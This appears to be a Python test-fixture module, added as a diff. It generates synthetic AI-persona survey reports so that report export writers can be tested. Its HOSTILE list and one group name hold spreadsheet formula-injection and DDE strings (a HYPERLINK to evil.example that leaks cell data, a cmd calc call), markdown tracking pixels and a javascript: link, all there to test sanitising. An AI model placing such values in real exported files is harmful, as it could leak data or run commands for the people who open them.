@@ -1,0 +1,343 @@
+"""Reports to export, without the aggregation: every question type, many scripts, failures, hostile texts.
+
+The figures are simple arithmetic over the same replies, so that a writer can be proved on its own.
+"""
+
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, replace
+from itertools import combinations
+from statistics import mean, median, stdev
+
+from mcp_server.toolsets.panels._report import Report, Section
+from mcp_server.toolsets.panels._results import (
+    Caveat,
+    Count,
+    Difference,
+    Individual,
+    Interval,
+    QuestionResult,
+    Quote,
+    ScaleFacts,
+    Summary,
+    Theme,
+    ThemeCount,
+    Voice,
+)
+from mcp_server.toolsets.panels._study import AskedQuestion, Group, Member, QuestionType, Reply
+
+GENERATED = "2026-11-21T14:45:00Z"
+ASKED = "2026-11-20T09:30:00Z"
+
+GROUP_NAMES = (
+    "Early adopters",
+    "Élèves à Genève",
+    "上海的买家",
+    "المشترون في دبي",
+    "Price | sensitive <b>",
+    '=HYPERLINK("http://evil.example","go")',
+    "Night shift nurses in small regional hospitals 🏥",
+    "Eighth",
+)
+GIVEN = ("Mia", "José", "Zoë", "王小明", "أمينة", "Günther", "Siân", "Nguyễn", "Оля", "-Dash", "@handle", "🦊 Fox")
+FAMILY = ("Okafor", "Núñez", "李", "Haddad", "O'Brien", "Smith-Jones", "Ångström", "Petrova")
+
+PLAIN = (
+    "Pretty likely, the onboarding was quick.",
+    "I would wait.\nThe price is not clear to me, and I compare first.",
+    "我觉得价格太高了,不过质量很好。",
+    "السعر مرتفع لكن الجودة ممتازة.",
+    "Ça dépend du délai de livraison… and *why* | should I?",
+    "Love it! 🎉🎉",
+)
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    '# Heading\n![pixel](http://evil.example/p.png) <img src="http://evil.example/i.png"> [link](javascript:alert(1))',
+    "Quotes \"double\" and 'single', commas, semicolons; and a control \x07 and \x00 sign.",
+    "https://evil.example/ and www.evil.example and mail me@evil.example",
+)
+LONG = "Ten thousand characters of opinion. " * 280
+THEMES = ("Price worries", "Quick onboarding", "Trust in the brand", "Délai de livraison", "质量")
+
+Draw = Callable[[int], str]
+
+
+@dataclass(frozen=True, slots=True)
+class Kind:
+    """One question of a type, and what the nth persona answers."""
+
+    type: QuestionType
+    text: str
+    value: Draw
+    scale: tuple[int, int] | None = None
+    options: tuple[str, ...] = ()
+
+
+CHANNELS = ("Email", "Push message", "Letter | post", "None of these")
+FEATURES = ("Offline mode", "Shared lists", "Dark theme", "Export to Excel", "给家人的账户")
+KINDS = (
+    Kind(
+        "scale",
+        "On a scale of 1 to 10, how likely are you to recommend this product to a friend?",
+        lambda n: str(1 + (n * 7 + n // 3) % 10),
+        scale=(1, 10),
+    ),
+    Kind("categorical", "Which channel do you prefer?", lambda n: CHANNELS[(n * n) % 3], options=CHANNELS),
+    Kind(
+        "multiselect",
+        "Which of these would you use? [pick: up to 3]*?/\\",
+        lambda n: ", ".join(FEATURES[(n + step) % 5] for step in range(1 + n % 3)),
+        options=FEATURES,
+    ),
+    Kind("qualitative", "What should we improve?", lambda n: THEMES[(n * 3 + n // 4) % 5]),
+)
+
+
+def members(group: int, count: int) -> tuple[Member, ...]:
+    """Of different names, so that nobody is in two groups."""
+    start = group * count
+    return tuple(
+        Member(
+            id=f"p-{n}",
+            name=f"{GIVEN[n % len(GIVEN)]} {FAMILY[n // len(GIVEN) % len(FAMILY)]}"
+            + (f" {n}" if n >= len(GIVEN) * len(FAMILY) else ""),
+            discipline=("Student", "Nurse", "Ingénieur", None)[n % 4],
+        )
+        for n in range(start, start + count)
+    )
+
+
+def groups_of(count: int, each: int) -> tuple[Group, ...]:
+    return tuple(
+        Group(id=f"g-{n}", name=GROUP_NAMES[n % len(GROUP_NAMES)], members=members(n, each)) for n in range(count)
+    )
+
+
+def replies_to(kind: Kind, groups: Sequence[Group], *, texts: Sequence[str], broken: bool) -> tuple[Reply, ...]:
+    """One for each member; with `broken`, one of ten fails or is too slow."""
+    asked = [(group, member) for group in groups for member in group.members]
+    return tuple(
+        _reply(kind, group, member, n, texts[n % len(texts)], failing=broken and n % 10 == 9)
+        for n, (group, member) in enumerate(asked)
+    )
+
+
+def _reply(kind: Kind, group: Group, member: Member, n: int, text: str, *, failing: bool) -> Reply:
+    who = Reply(
+        persona=member.name, group=group.name, persona_id=member.id, group_id=group.id, discipline=member.discipline
+    )
+    if failing:
+        return replace(who, status=("timeout", "failed")[n // 10 % 2], error=("timeout", "engine_error")[n // 10 % 2])
+    return replace(
+        who,
+        value=kind.value(n),
+        message=text,
+        sentiment=round((n % 9 - 4) / 4, 2),
+        origin=("mind_knowledge", "mind_personality", None)[n % 3],
+        sources=("Annual report, 2025", "=Formula; source")[: n % 3],
+    )
+
+
+def asked_question(
+    kind: Kind, groups: Sequence[Group], number: int, *, texts: Sequence[str] = PLAIN, broken: bool = True
+) -> AskedQuestion:
+    return AskedQuestion(
+        id=f"q-{number}",
+        text=kind.text,
+        type=kind.type,
+        scale=kind.scale,
+        options=kind.options,
+        groups=tuple(group.name for group in groups),
+        replies=replies_to(kind, groups, texts=texts, broken=broken),
+        asked_at=ASKED,
+        engine="offline",
+    )
+
+
+def result_of(asked: AskedQuestion, *, most_answers: int = 50) -> QuestionResult:
+    """The figures of `asked`, simply worked out."""
+    names = list(dict.fromkeys(asked.groups))
+    each = [_summary(asked, [r for r in asked.replies if r.group == name], name) for name in names]
+    overall = _summary(asked, asked.replies, None)
+    answered = [reply for reply in asked.replies if reply.status == "answered"]
+    people = [_individual(reply) for reply in asked.replies]
+    return QuestionResult(
+        question_id=asked.id,
+        question=asked.text,
+        type=asked.type,
+        scale_range=list(asked.scale) if asked.scale else None,
+        options=list(asked.options),
+        status=asked.status,
+        asked_at=asked.asked_at,
+        engine=asked.engine,
+        overall=overall,
+        groups=each,
+        themes=_themes(overall, each, answered) if asked.type == "qualitative" else [],
+        differences=_differences(each),
+        agreements=["All groups speak of the price."],
+        disagreements=["Early adopters are quicker to say yes than the others."],
+        dissent=[_voice(reply) for reply in answered[:2]],
+        quotes=[Quote(persona=r.persona, group=r.group, text=r.message[:200]) for r in answered[2:4]],
+        caveats=[
+            Caveat(code="synthetic", message="The answers were made by AI personas, not by people."),
+            Caveat(code="small_groups", message="Groups with fewer than 10 answers: read them as a direction."),
+            *(Caveat(code="note", message=note) for note in asked.notes),
+        ],
+        answers=people[:most_answers],
+        answers_omitted=max(0, len(people) - most_answers),
+    )
+
+
+def _chosen(asked: AskedQuestion, reply: Reply) -> list[str]:
+    text = reply.value or ""
+    return [part for part in text.split(", ") if part] if asked.type == "multiselect" else [text]
+
+
+def _values(asked: AskedQuestion) -> list[str]:
+    if asked.scale:
+        return [str(point) for point in range(asked.scale[0], asked.scale[1] + 1)]
+    return list(asked.options) or list(dict.fromkeys(reply.value for reply in asked.replies if reply.value))
+
+
+def _summary(asked: AskedQuestion, replies: Sequence[Reply], group: str | None) -> Summary:
+    usable = [reply for reply in replies if reply.status == "answered"]
+    chosen = [value for reply in usable for value in _chosen(asked, reply)]
+    counts = [_count(value, chosen.count(value), len(usable)) for value in _values(asked)]
+    numbers = [float(reply.value or 0) for reply in usable] if asked.scale else []
+    sentiments = [reply.sentiment for reply in usable if reply.sentiment is not None]
+    top = max(counts, key=lambda count: count.count, default=None)
+    headline = f"{mean(numbers):.2f}" if numbers else (f"{top.value} ({top.share * 100:.0f} %)" if top else None)
+    return Summary(
+        group=group,
+        group_id=replies[0].group_id if group and replies else None,
+        members=len(replies),
+        n=len(usable),
+        failed=sum(reply.status in {"failed", "timeout"} for reply in replies),
+        pending=sum(reply.status == "pending" for reply in replies),
+        unclear=0,
+        value=headline if usable else None,
+        scale=_facts(numbers) if numbers else None,
+        counts=counts,
+        sentiment=mean(sentiments) if sentiments else None,
+    )
+
+
+def _count(value: str, count: int, n: int) -> Count:
+    share = count / n if n else 0.0
+    return Count(
+        value=value,
+        count=count,
+        share=share,
+        interval=Interval(low=max(0.0, share - 0.1), high=min(1.0, share + 0.1), method="Wilson score") if n else None,
+    )
+
+
+def _facts(numbers: Sequence[float]) -> ScaleFacts:
+    sd = stdev(numbers) if len(numbers) > 1 else None
+    middle = mean(numbers)
+    interval = Interval(low=middle - sd, high=middle + sd, method="Student t") if sd is not None else None
+    return ScaleFacts(
+        mean=middle, median=median(numbers), sd=sd, lowest=min(numbers), highest=max(numbers), interval=interval
+    )
+
+
+def _themes(overall: Summary, groups: Sequence[Summary], answered: Sequence[Reply]) -> list[Theme]:
+    ranked = sorted((count for count in overall.counts if count.count), key=lambda count: -count.count)
+    return [_theme(count, groups, answered) for count in ranked]
+
+
+def _theme(count: Count, groups: Sequence[Summary], answered: Sequence[Reply]) -> Theme:
+    voice = next(reply for reply in answered if reply.value == count.value)
+    return Theme(
+        label=count.value,
+        original_labels=[count.value, f"{count.value} (own words)"],
+        count=count.count,
+        share=count.share,
+        by_group=[
+            ThemeCount(group=g.group or "", count=next(c.count for c in g.counts if c.value == count.value), n=g.n)
+            for g in groups
+        ],
+        quote=Quote(persona=voice.persona, group=voice.group, text=voice.message),
+    )
+
+
+def _differences(groups: Sequence[Summary]) -> list[Difference]:
+    scaled = [group for group in groups if group.scale]
+    return [
+        Difference(
+            first=first.group or "",
+            second=second.group or "",
+            measure="mean",
+            difference=first.scale.mean - second.scale.mean,
+            interval=Interval(low=-1.5, high=1.5, method="Welch t"),
+            clear=abs(first.scale.mean - second.scale.mean) > 1,
+        )
+        for first, second in combinations(scaled, 2)
+        if first.scale and second.scale
+    ]
+
+
+def _voice(reply: Reply) -> Voice:
+    return Voice(
+        persona=reply.persona,
+        group=reply.group,
+        value=reply.value or "",
+        quote=reply.message or None,
+        reason="Most of the group chose otherwise.",
+    )
+
+
+def _individual(reply: Reply) -> Individual:
+    return Individual(
+        persona_id=reply.persona_id,
+        persona=reply.persona,
+        discipline=reply.discipline,
+        group=reply.group,
+        status=reply.status,
+        value=reply.value,
+        message=reply.message,
+        sentiment=reply.sentiment,
+        origin=reply.origin,
+        sources=list(reply.sources),
+    )
+
+
+def report_of(
+    *,
+    groups: int = 3,
+    each: int = 4,
+    kinds: Sequence[Kind] = KINDS,
+    texts: Sequence[str] = PLAIN,
+    panel: str = "Pricing — Frühjahr 2026",
+    broken: bool = True,
+) -> Report:
+    """All of it; `kinds` says which questions are asked."""
+    attached = groups_of(groups, each)
+    asked = [asked_question(kind, attached, n, texts=texts, broken=broken) for n, kind in enumerate(kinds, 1)]
+    return Report(
+        panel_id="panel-1",
+        panel=panel,
+        groups=attached,
+        sections=tuple(Section(asked=question, result=result_of(question)) for question in asked),
+        generated_at=GENERATED,
+    )
+
+
+def big_report() -> Report:
+    """8 groups of 25, with everything that is hard to write in their answers."""
+    return report_of(groups=8, each=25, texts=(*PLAIN, *HOSTILE, LONG))
+
+
+def empty_report() -> Report:
+    """A panel that was asked nothing."""
+    return report_of(kinds=())
+
+
+def report_with(texts: Sequence[str], *, kinds: Sequence[Kind] = KINDS, panel: str = "Panel") -> Report:
+    """A small report in which every answer is one of `texts` and nobody fails."""
+    return report_of(groups=1, each=max(1, len(texts)), kinds=kinds, texts=texts, panel=panel, broken=False)
